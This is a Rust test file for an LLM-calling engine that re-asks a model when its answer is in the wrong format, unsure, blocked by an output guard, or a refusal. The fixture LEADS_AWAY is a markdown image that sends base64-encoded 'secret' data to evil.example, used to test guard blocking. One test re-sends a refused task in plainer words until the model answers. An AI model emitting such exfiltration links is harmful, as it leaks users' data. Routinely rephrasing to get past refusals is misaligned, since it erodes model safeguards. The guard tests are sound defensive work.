//! Asking again when an answer is not what was asked for.

use pretty_assertions::assert_eq;

use crate::{
    model::{GuardAction, Guards, Recovery, ResponseFormat, Strategy, Untrusted},
    prompt::Validation,
};

use super::*;

/// A call that wants JSON and may ask again twice.
fn wants_json(on: bool) -> CallSpec {
    let mut spec = call(VariantName::A, "scripted");
    spec.parameters.response_format = Some(ResponseFormat::Json);
    spec.expectations.recovery = Recovery { on, ..Recovery::default() };
    spec
}

async fn events(bench: &Bench, spec: CallSpec) -> (Execution, Vec<RunEventKind>) {
    let mut handle = bench.engine.start(run(vec![spec]));
    let mut kinds = Vec::new();
    while let Some(event) = handle.next().await {
        match event.kind {
            RunEventKind::Finished(execution) => return (*execution, kinds),
            kind => kinds.push(kind),
        }
    }
    panic!("a call always ends");
}

fn failed(execution: &Execution) -> Vec<(&str, &str)> {
    let failed = execution.checks.iter().filter(|check| !check.passed);
    failed.map(|check| (check.kind.as_str(), check.name.as_str())).collect()
}

#[tokio::test(start_paused = true)]
async fn an_answer_in_the_wrong_form_is_mended_by_asking_again() {
    let scripts = vec![answer(&[say("Sure: {a: 1}")]), answer(&[say("{\"a\": 1}")])];
    let bench = bench(scripts, Memory::default());
    let (execution, kinds) = events(&bench, wants_json(true)).await;
    assert_eq!((execution.status, execution.text.as_str()), (Status::Ok, "{\"a\": 1}"));
    assert_eq!(failed(&execution), []);
    assert!(
        execution.checks.iter().any(|it| it.kind == "format" && it.name == "json" && it.passed)
    );

    let [first, second] = execution.attempts.as_slice() else { panic!("two attempts") };
    assert_eq!((first.strategy, first.text.as_deref()), (None, Some("Sure: {a: 1}")));
    assert_eq!((second.strategy, &second.text), (Some(Strategy::FormatFix), &None));
    assert_eq!(second.messages.len(), 3);
    assert!(second.messages[2].content.contains("JSON only when repaired"));
    assert_eq!(execution.messages.len(), 1, "the prompt is the one that was asked");

    // Both answers were paid for, and each is told apart.
    let (one, two) = (first.usage.expect("known"), second.usage.expect("known"));
    let sum = one.output_tokens.zip(two.output_tokens).map(|(one, two)| one + two);
    assert_eq!(execution.usage.output_tokens, sum);
    let told = kinds.iter().find_map(|kind| match kind {
        RunEventKind::Recovering { strategy, number, of, reasons } => {
            Some((*strategy, *number, *of, reasons.len()))
        }
        _ => None,
    });
    assert_eq!(told, Some((Strategy::FormatFix, 1, 2, 1)));
}

#[tokio::test(start_paused = true)]
async fn without_a_wish_nothing_is_asked_again_and_the_check_says_why() {
    let bench = bench(vec![answer(&[say("no json")]), answer(&[say("{}")])], Memory::default());
    let (execution, _) = events(&bench, wants_json(false)).await;
    assert_eq!((execution.status, execution.text.as_str()), (Status::Ok, "no json"));
    assert_eq!(failed(&execution), [("format", "json")]);
    assert_eq!(execution.attempts.len(), 1);
    assert_eq!(bench.scripted.attempts.lock().unwrap().len(), 1);
}

#[tokio::test(start_paused = true)]
async fn it_asks_no_more_often_than_it_may_and_keeps_the_best() {
    let scripts = vec![
        answer(&[say("first")]),
        answer(&[say("second")]),
        answer(&[say("third")]),
        answer(&[say("never asked")]),
    ];
    let bench = bench(scripts, Memory::default());
    let (execution, _) = events(&bench, wants_json(true)).await;
    assert_eq!(execution.attempts.len(), 3);
    assert_eq!(execution.text, "first", "no later one was better");
    assert_eq!(failed(&execution), [("format", "json")]);
    let strategies: Vec<_> = execution.attempts.iter().filter_map(|it| it.strategy).collect();
    assert_eq!(strategies, [Strategy::FormatFix, Strategy::Enhance]);
    let left: Vec<_> = execution.attempts.iter().filter_map(|it| it.text.as_deref()).collect();
    assert_eq!(left, ["second", "third"]);
}

#[tokio::test(start_paused = true)]
async fn an_answer_that_came_is_kept_when_asking_again_fails() {
    let broken = vec![Step::Fail(CallError::new(ErrorKind::Authentication, "no"))];
    let bench = bench(vec![answer(&[say("not json")]), broken], Memory::default());
    let (execution, _) = events(&bench, wants_json(true)).await;
    assert_eq!((execution.status, execution.text.as_str()), (Status::Ok, "not json"));
    assert_eq!(execution.attempts.len(), 2);
    assert!(execution.attempts[1].error.is_some());
}

#[tokio::test(start_paused = true)]
async fn sections_and_silence_are_asked_for_again() {
    let text = "## Analysis\nfine\n## Recommendations\nnone";
    let scripts = vec![answer(&[]), answer(&[say(text)])];
    let bench = bench(scripts, Memory::default());
    let mut spec = call(VariantName::A, "scripted");
    spec.expectations.recovery = Recovery { on: true, ..Recovery::default() };
    spec.expectations.validation = Some(Validation {
        required_sections: vec!["analysis".to_owned(), "recommendations".to_owned()],
        ..Validation::default()
    });
    let (execution, _) = events(&bench, spec).await;
    assert_eq!(execution.text, text);
    assert_eq!(failed(&execution), []);
    assert_eq!(execution.attempts[1].strategy, Some(Strategy::Enhance));
    assert!(execution.attempts[1].messages[0].content.contains("no section headed analysis"));
}

fn asks_again() -> CallSpec {
    let mut spec = call(VariantName::A, "scripted");
    spec.expectations.recovery = Recovery { on: true, ..Recovery::default() };
    spec
}

/// What was told of asking again: each strategy, and why.
fn told(kinds: &[RunEventKind]) -> Vec<(Strategy, String)> {
    let told = kinds.iter().filter_map(|kind| match kind {
        RunEventKind::Recovering { strategy, reasons, .. } => Some((*strategy, reasons.join("; "))),
        _ => None,
    });
    told.collect()
}

/// Extraction is the first step, and free.
#[tokio::test(start_paused = true)]
async fn json_in_a_fence_costs_no_second_answer() {
    let text = "Here you are:\n```json\n{\"a\": 1}\n```\nAnything else?";
    let bench = bench(vec![answer(&[say(text)]), answer(&[say("{}")])], Memory::default());
    let (execution, kinds) = events(&bench, wants_json(true)).await;
    assert_eq!((execution.text.as_str(), execution.attempts.len()), (text, 1));
    assert!(told(&kinds).is_empty());
    let check = execution.checks.iter().find(|check| check.name == "json").expect("checked");
    assert!(check.passed);
    assert_eq!(check.reason, "JSON taken from a fence");
}

#[tokio::test(start_paused = true)]
async fn an_attempt_says_what_was_wrong_before_it() {
    let scripts = vec![answer(&[say("no json")]), answer(&[say("{}")])];
    let bench = bench(scripts, Memory::default());
    let (execution, kinds) = events(&bench, wants_json(true)).await;
    let reason = "there is no object and no list in it";
    assert_eq!(told(&kinds), [(Strategy::FormatFix, reason.to_owned())]);
    let reasons: Vec<_> = execution.attempts.iter().map(|it| it.reason.as_deref()).collect();
    assert_eq!(reasons, [None, Some(reason)]);
}

#[tokio::test(start_paused = true)]
async fn a_refusal_is_asked_for_again_in_plainer_words() {
    let refusal = answer(&[say("I'm sorry, but I can't help with that.")]);
    let bench = bench(vec![refusal, answer(&[say("Here it is.")])], Memory::default());
    let mut spec = asks_again();
    spec.messages = vec![
        Message::new(Role::System, "Be exact."),
        Message::new(Role::User, "An example"),
        Message::new(Role::Assistant, "An answer"),
        Message::new(Role::User, "The\n\n\ntask"),
    ];
    let (execution, kinds) = events(&bench, spec).await;
    assert_eq!(execution.text, "Here it is.");
    assert_eq!(told(&kinds), [(Strategy::Simplify, "it refuses to answer".to_owned())]);
    let second = &execution.attempts[1];
    assert_eq!(second.strategy, Some(Strategy::Simplify));
    assert_eq!(second.messages.len(), 2, "without the example");
    assert!(second.messages[1].content.starts_with("The\ntask\n\nAnswer in plain words"));
    assert_eq!(execution.messages.len(), 4);
}

#[tokio::test(start_paused = true)]
async fn an_unsure_answer_is_asked_for_again() {
    let unsure = answer(&[say("I think it is so. It might be not. Perhaps.")]);
    let sure = answer(&[say("It is so. It has been since 1990.")]);
    let bench = bench(vec![unsure, sure], Memory::default());
    let (execution, kinds) = events(&bench, asks_again()).await;
    assert_eq!(execution.text, "It is so. It has been since 1990.");
    assert_eq!(failed(&execution), []);
    let told = told(&kinds);
    assert_eq!(told[0].0, Strategy::Enhance);
    assert!(told[0].1.contains("100 of 100 sentences"), "{told:?}");
    assert!(execution.attempts[1].messages[0].content.contains("not sure"));
}

const LEADS_AWAY: &str = "![x](https://evil.example/p.png?d=c2VjcmV0IHN0dWZm)";

fn guarding(output: GuardAction) -> CallSpec {
    let guards = Guards { output, ..Guards::default() };
    let safeguards =
        Safeguards { guards, untrusted: Vec::new(), allowed: std::collections::BTreeSet::new() };
    CallSpec { safeguards, ..asks_again() }
}

#[tokio::test(start_paused = true)]
async fn an_answer_that_a_guard_stops_is_asked_for_again_and_kept_as_an_attempt() {
    let scripts = vec![answer(&[say(LEADS_AWAY)]), answer(&[say("A harmless answer.")])];
    let bench = bench(scripts, Memory::default());
    let (execution, kinds) = events(&bench, guarding(GuardAction::Block)).await;
    assert_eq!((execution.status, execution.error_kind()), (Status::Ok, None));
    assert_eq!(execution.text, "A harmless answer.");
    assert_eq!(execution.attempts[0].text.as_deref(), Some(LEADS_AWAY), "it is not lost");
    assert_eq!(told(&kinds)[0].0, Strategy::Enhance);
    assert_eq!(failed(&execution), []);
}

#[tokio::test(start_paused = true)]
async fn an_answer_that_stays_stopped_ends_blocked_within_bounds() {
    let scripts = (0..9).map(|_| answer(&[say(LEADS_AWAY)])).collect();
    let bench = bench(scripts, Memory::default());
    let (execution, _) = events(&bench, guarding(GuardAction::Block)).await;
    assert_eq!(
        (execution.status, execution.error_kind()),
        (Status::Blocked, Some(ErrorKind::Guard))
    );
    assert_eq!((execution.text.as_str(), execution.attempts.len()), (LEADS_AWAY, 3));
    assert!(execution.cost_usd > Some(3.0), "each was paid for: {:?}", execution.cost_usd);
}

/// An answer that nothing stops is kept rather than one with fewer faults that is stopped.
#[tokio::test(start_paused = true)]
async fn a_stopped_answer_never_takes_the_place_of_another() {
    let unsure = "I think it is so. It might be not. Perhaps.";
    let scripts =
        vec![answer(&[say(unsure)]), answer(&[say(LEADS_AWAY)]), answer(&[say(LEADS_AWAY)])];
    let bench = bench(scripts, Memory::default());
    let (execution, _) = events(&bench, guarding(GuardAction::Block)).await;
    assert_eq!((execution.status, execution.text.as_str()), (Status::Ok, unsure));
}

#[tokio::test(start_paused = true)]
async fn without_recovery_a_stopped_answer_is_stopped_at_once() {
    let bench = bench(vec![answer(&[say(LEADS_AWAY)])], Memory::default());
    let mut spec = guarding(GuardAction::Block);
    spec.expectations.recovery.on = false;
    let (execution, kinds) = events(&bench, spec).await;
    assert_eq!(execution.status, Status::Blocked);
    assert!(told(&kinds).is_empty() && execution.attempts.len() == 1);
}

#[tokio::test(start_paused = true)]
async fn a_guard_that_only_warns_has_the_answer_asked_for_again_too() {
    let scripts = vec![answer(&[say(LEADS_AWAY)]), answer(&[say("A harmless answer.")])];
    let bench = bench(scripts, Memory::default());
    let (execution, _) = events(&bench, guarding(GuardAction::Warn)).await;
    assert_eq!((execution.status, execution.text.as_str()), (Status::Ok, "A harmless answer."));
}

/// What was found in the values is as true of the second answer and the third as of the first.
#[tokio::test(start_paused = true)]
async fn what_guards_found_in_the_values_stays_through_every_recovery() {
    let scripts = vec![
        answer(&[say(LEADS_AWAY)]),
        answer(&[say("I think it is so. It might be not. Perhaps.")]),
        answer(&[say("It is so. It has been since 1990.")]),
    ];
    let bench = bench(scripts, Memory::default());
    let mut spec = guarding(GuardAction::Block);
    spec.messages = vec![Message::new(Role::System, "a value"), Message::new(Role::User, "Go on")];
    spec.safeguards.guards.hierarchy = GuardAction::Warn;
    spec.safeguards.untrusted =
        vec![Untrusted { message: 0, range: 0..7, variable: "text".to_owned() }];
    spec.expectations.recovery.strategies = vec![Strategy::Enhance, Strategy::Simplify];
    let (execution, kinds) = events(&bench, spec).await;
    assert_eq!(told(&kinds).len(), 2, "{:?}", told(&kinds));
    assert_eq!(execution.text, "It is so. It has been since 1990.");
    assert_eq!(failed(&execution), [("guard", "hierarchy")]);
}

/// After a round that brought nothing better an older answer stands again: what is left then is
/// left where it came from.
#[tokio::test(start_paused = true)]
async fn each_answer_stands_with_the_attempt_that_brought_it() {
    let scripts = ["first", "second", "{}"].map(|text| answer(&[say(text)])).to_vec();
    let bench = bench(scripts, Memory::default());
    let (execution, _) = events(&bench, wants_json(true)).await;
    assert_eq!(execution.text, "{}");
    let texts: Vec<_> = execution.attempts.iter().map(|it| it.text.as_deref()).collect();
    assert_eq!(texts, [Some("first"), Some("second"), None]);
    let kept = bench.memory.kept.lock().unwrap();
    let told = kept.iter().filter_map(|checkpoint| checkpoint.attempts.as_ref()).next_back();
    let texts: Vec<_> = told.expect("told").iter().map(|it| it.text.as_deref()).collect();
    assert_eq!(texts, [Some("first"), Some("second")]);
}
